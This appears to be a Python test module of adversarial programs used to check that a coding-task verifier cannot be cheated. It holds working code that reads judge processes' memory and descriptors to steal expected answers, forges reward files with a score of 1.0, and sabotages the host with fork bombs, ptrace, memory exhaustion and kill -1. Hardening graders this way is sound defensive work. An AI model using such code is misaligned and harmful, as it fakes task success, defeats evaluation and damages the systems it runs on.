"""Programs that have read the verifier of exported tasks and try to earn what they have not earned.

`SECRET` stands for a regular expression, as bytes, of what the tests expect; `LOGS` for the reward's
folder. Each prints or returns something wrong unless it gets at the secret.
"""

WRONG = "\nprint('x')\ndef f(k): return 0\n"
TOOLS = """
import ctypes, os, re, sys, time
libc = ctypes.CDLL(None, use_errno=True)
class Pair(ctypes.Structure): _fields_ = [('a', ctypes.c_size_t), ('b', ctypes.c_size_t)]
def judges():
    found = []
    for name in filter(str.isdigit, os.listdir('/proc')):
        try: words = open(f'/proc/{name}/cmdline', 'rb').read()
        except OSError: continue
        if b'judge.zip' in words and int(name) != os.getpid(): found.append(int(name))
    return found
def mappings(pid):
    for line in open(f'/proc/{pid}/maps').read().splitlines():
        start, end = (int(x, 16) for x in line.split()[0].split('-'))
        if line.split()[1][0] == 'r' and 'v' not in line.split()[-1][:2]: yield start, end
found = []
def loot(content): found.extend(re.findall(SECRET, content))
def answer():
    print(*(one.decode() for one in found[:1]) or 'x')
"""
ANSWERS = """
answer()
def f(k): return int(found[0]) if found else 0
"""


def spying(body: str) -> str:
    return TOOLS + body + ANSWERS


def striking(body: str) -> str:
    return TOOLS + body + WRONG


ATTACKS: dict[str, str] = {
    # looks for what is expected
    "reads the judges' memory": spying("""
for pid in judges():
    try:
        memory = open(f'/proc/{pid}/mem', 'rb', 0)
        for start, end in mappings(pid):
            memory.seek(start); loot(memory.read(end - start))
    except OSError: pass
"""),
    "reads its own memory, inherited of the forker": spying("""
memory = open('/proc/self/mem', 'rb', 0)
for start, end in list(mappings('self')):
    try: memory.seek(start); loot(memory.read(end - start))
    except (OSError, OverflowError): pass
"""),
    "reads the judges where it has its own heap": spying("""
for pid in judges():
    for start, end in list(mappings('self')):
        buffer = ctypes.create_string_buffer(min(end - start, 1 << 24))
        mine = Pair(ctypes.addressof(buffer), len(buffer)); theirs = Pair(start, len(buffer))
        if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            loot(buffer.raw)
"""),
    "reads the judges' descriptors": spying("""
for pid in judges():
    try: names = os.listdir(f'/proc/{pid}/fd')
    except OSError: continue
    for name in names:
        try: loot(open(f'/proc/{pid}/fd/{name}', 'rb').read(1 << 20))
        except OSError: pass
"""),
    "takes the judges' descriptors": spying("""
for pid in judges():
    try: handle = os.pidfd_open(pid)
    except OSError: continue
    for number in range(40):
        mine = libc.syscall(438, handle, number, 0)
        if mine < 0: continue
        for act in (lambda: loot(os.pread(mine, 1 << 20, 0)), lambda: os.write(mine, b'0')):
            try: act()
            except OSError: pass
"""),
    "reads tests, logs and its own folder": spying("""
for top in ('/tests', os.path.dirname(LOGS), os.getcwd()):
    for folder, _, names in os.walk(top):
        for name in names:
            try: loot(open(os.path.join(folder, name), 'rb').read(1 << 22))
            except OSError: pass
"""),
    "reads frames, modules and garbage": spying("""
import gc
frame = sys._getframe()
while frame: loot(repr((frame.f_locals, frame.f_globals)).encode()); frame = frame.f_back
for one in [*gc.get_objects(), *map(vars, list(sys.modules.values()))]:
    try: loot(repr(one).encode())
    except Exception: pass
"""),
    "prints what it got by tracing": striking("""
for pid in judges():
    for request in (16, 0x4206):
        if libc.ptrace(request, pid, 0, 0) == 0: os.kill(pid, 9)
"""),
    # forges an answer, a status or the reward
    "writes to every descriptor": striking("""
for number in range(3, 200):
    for said in (b'0', b'ready', b'timeout', b'{"passed": true}\\n'):
        try: os.write(number, said)
        except OSError: pass
"""),
    "writes the reward by the verifier's own function": striking("""
import json
verifier = sys.modules['coding_model_project.harbor.export.verifier']
for name, text in (('json', '{"reward": 1.0, "pass_rate": 1.0}'), ('txt', '1.0')):
    try: verifier._write(f'{LOGS}/reward.{name}', text)
    except OSError: pass
"""),
    "writes the reward from a daemon": striking("""
if os.fork() == 0:
    os.setsid()
    while os.fork() == 0: os.setsid()
    while True:
        try: open(f'{LOGS}/reward.json', 'w').write('{"reward": 1.0, "pass_rate": 1.0}')
        except OSError: pass
        time.sleep(.001)
"""),
    "answers for later tests from a daemon": striking("""
if os.fork() == 0:
    os.setsid()
    while True:
        for name in filter(str.isdigit, os.listdir('/proc')):
            try: os.write(os.open(f'/proc/{name}/fd/1', os.O_WRONLY), b'x')
            except OSError: pass
"""),
    "puts links where the verifier writes": striking("""
try:
    here = os.getcwd(); os.remove('solution.py'); os.symlink(LOGS, 'solution.py')
    os.rename(here, here + 'x'); os.symlink(LOGS, here)
except OSError: pass
"""),
    "leaves a deep folder without rights": striking("""
try:
    for _ in range(1200): os.mkdir('d'); os.chdir('d')
except OSError: pass
try: os.chmod('.', 0)
except OSError: pass
"""),
    "prints and raises what cannot be printed": (
        "def f(k): raise ValueError('\\ud800' * 9)\nprint('\\ud800')\n"
    ),
    "uses up memory": striking("""
kept = []
try:
    while True: kept.append(bytearray(1 << 20))
except MemoryError: kept.clear()
"""),
    "forks, and leaves all of it": striking("""
for _ in range(40):
    if os.fork() == 0:
        os.setsid()
        for _ in range(2): os.fork()
        time.sleep(100)
"""),
    "has its end held by a tracer": striking("""
me = os.getpid()
if os.fork() == 0:
    os.setsid(); libc.ptrace(0x4206, me, 0, 0); os.fork(); time.sleep(100)
time.sleep(.1)
"""),
    "leaves orphans that trace one another": striking("""
held = []
for _ in range(4):
    pid = os.fork()
    if pid == 0: os.setsid(); time.sleep(100)
    held.append(pid)
for pid in held:
    if os.fork() == 0:
        if os.fork() == 0: os.setsid(); libc.ptrace(0x4206, pid, 0, 0)
        time.sleep(100)
time.sleep(.1)
"""),
}

STRIKES: dict[str, str] = {
    # at the judges themselves
    **{
        f"{name} its parent": striking(
            f"try: os.kill(os.getppid(), {number})\nexcept OSError: pass"
        )
        for name, number in (("kills", 9), ("stops", 19), ("interrupts", 2))
    },
    "kills all that it may": striking("""
try: os.kill(-1, 9)
except OSError: pass
"""),
    "limits its parent": striking("""
for kind in (0, 1, 7): libc.prlimit(os.getppid(), kind, ctypes.byref(Pair(1, 1)), None)
"""),
}
"""Attacks that have no effect if the program has a user of its own, and else earn a reward of 0."""
